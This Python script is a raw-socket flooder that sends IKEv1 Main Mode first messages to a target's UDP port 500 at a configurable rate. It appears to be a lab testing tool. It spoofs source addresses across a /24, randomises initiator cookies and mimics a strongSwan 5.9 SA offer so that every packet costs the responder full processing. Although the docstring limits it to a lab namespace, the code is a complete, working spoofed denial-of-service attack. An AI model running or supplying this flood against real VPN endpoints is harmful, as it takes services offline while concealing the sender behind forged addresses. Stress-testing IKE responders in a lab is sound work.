"""A spoofed Main Mode first-message flood, from a raw socket (run inside a lab namespace).

Usage: python ike_flooder.py TARGET RATE SECONDS SOURCES_PREFIX SOURCES [REPORT]

Sends RATE MM1 per second for SECONDS to TARGET:500, each from one of SOURCES spoofed
addresses SOURCES_PREFIX.1 ... (a /24: at most 254) and source port 500, each with a
fresh initiator cookie and the SA offer a strongSwan 5.9 client makes by default in
IKEv1 (aes128-sha256-modp2048, PSK) plus the RFC 3947 vendor ID: every datagram costs the
responder the full first-message path.  The ISAKMP message is built once with scapy
(independent of narsuite, which this never imports); the per-datagram work is a struct
patch, and the IP and UDP checksums are left to the kernel (IP_HDRINCL) and zero (UDP
over IPv4 may omit it).  Prints one JSON line with what it sent.
"""

from __future__ import annotations

import json
import os
import socket
import struct
import sys
import time

from scapy.layers.isakmp import (
    ISAKMP,
    ISAKMP_payload_Proposal,
    ISAKMP_payload_SA,
    ISAKMP_payload_Transform,
    ISAKMP_payload_VendorID,
)

RFC3947_VID = bytes.fromhex("4a131c81070358455c5728f20e95452f")


def mm1_template() -> bytes:
    t = ISAKMP_payload_Transform(num=1, id=1, transforms=[
        ("Encryption", "AES-CBC"), ("KeyLength", 128), ("Hash", "SHA2-256"), ("Authentication", "PSK"),
        ("GroupDesc", "2048MODPgr"), ("LifeType", "Seconds"), ("LifeDuration", 28800)])
    msg = (ISAKMP(init_cookie=b"\x01" * 8, exch_type="identity protection")
           / ISAKMP_payload_SA(prop=ISAKMP_payload_Proposal(trans_nb=1, trans=t))
           / ISAKMP_payload_VendorID(VendorID=RFC3947_VID))
    return bytes(msg)


def main() -> None:
    target, rate, seconds, prefix, sources = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4], \
        int(sys.argv[5])
    ike = mm1_template()
    udp_len = 8 + len(ike)
    srcs = [socket.inet_aton(f"{prefix}.{i + 1}") for i in range(sources)]
    dst = socket.inet_aton(target)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # implies IP_HDRINCL
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 * 1024 * 1024)
    udp = struct.pack("!HHHH", 500, 500, udp_len, 0)
    sent = errors = 0
    start = time.monotonic()
    batch = max(1, rate // 100)  # ten-millisecond batches
    while True:
        now = time.monotonic() - start
        if now >= seconds:
            break
        due = int(now * rate) + batch
        while sent + errors < due:
            i = sent + errors
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0, 64, 17, 0, srcs[i % sources], dst)
            try:
                s.sendto(ip + udp + os.urandom(8) + ike[8:], (target, 0))
                sent += 1
            except OSError:
                errors += 1
        time.sleep(0.01)
    elapsed = time.monotonic() - start
    print(json.dumps({"sent": sent, "errors": errors, "seconds": round(elapsed, 3),
                      "rate": round(sent / elapsed, 1), "sources": sources}), flush=True)


if __name__ == "__main__":
    main()
